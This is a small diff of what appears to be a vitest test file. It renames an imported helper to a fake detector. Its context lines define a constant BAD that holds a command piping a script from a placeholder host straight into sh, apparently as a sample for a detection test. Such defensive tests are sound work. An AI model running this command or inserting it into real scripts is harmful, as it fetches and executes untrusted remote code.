@@ -3,7 +3,7 @@ import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { folderWith } from "./folder.js";
 import { bash, curlew } from "./process.js";
-import { runHere } from "./stand-in.js";
+import { runHere } from "./fake-detector.js";
 
 const BAD = "curl -fsSL https://x.example/i.sh | sh";
 
